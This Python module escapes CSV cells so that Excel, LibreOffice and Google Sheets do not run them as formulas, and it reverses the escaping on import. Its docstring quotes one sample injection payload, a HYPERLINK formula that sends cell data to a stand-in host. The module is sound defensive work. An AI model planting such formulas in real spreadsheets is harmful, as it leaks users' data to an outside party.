"""Spreadsheet-safe CSV cells: formula injection escaping, and its exact inverse for imports.

Participants type free text, and a CSV cell that begins with `=`, `+`, `-`, `@`, a tab or a
carriage return is run as a formula by Excel, LibreOffice and Google Sheets
(`=HYPERLINK("http://evil.example/?leak="&A1, ...)`). OWASP's advice is to prefix such cells
with a single quote, which spreadsheets show as text.

The rule, exactly (one home for it; `docs/operations.md` repeats it for readers of exports):

- escape: a text cell matching `'*[=+\\-@\\t\\r]` at its start (any number of single quotes,
  then a trigger character) gets one more `'` in front. Quotes before a trigger are counted
  so that the mapping can be undone without guessing.
- unescape: a cell matching the same pattern with at least one leading quote loses one.

`unescape(escape(x)) == x` for every string. A cell that begins with a quote followed by
anything else ("'Tis") is never touched either way. Numbers, booleans and empty cells are
written as they are (a negative number stays a number); only strings are escaped.
"""

from __future__ import annotations

import re
from typing import Any

FORMULA_START = re.compile(r"'*[=+\-@\t\r]")


def spreadsheet_escape(value: Any) -> Any:
    """Return a CSV cell value that no spreadsheet runs as a formula."""
    if isinstance(value, str) and FORMULA_START.match(value):
        return "'" + value
    return value


def spreadsheet_unescape(value: Any) -> Any:
    """Undo `spreadsheet_escape` (a cell read back from an exported CSV)."""
    if isinstance(value, str) and value.startswith("'") and FORMULA_START.match(value):
        return value[1:]
    return value
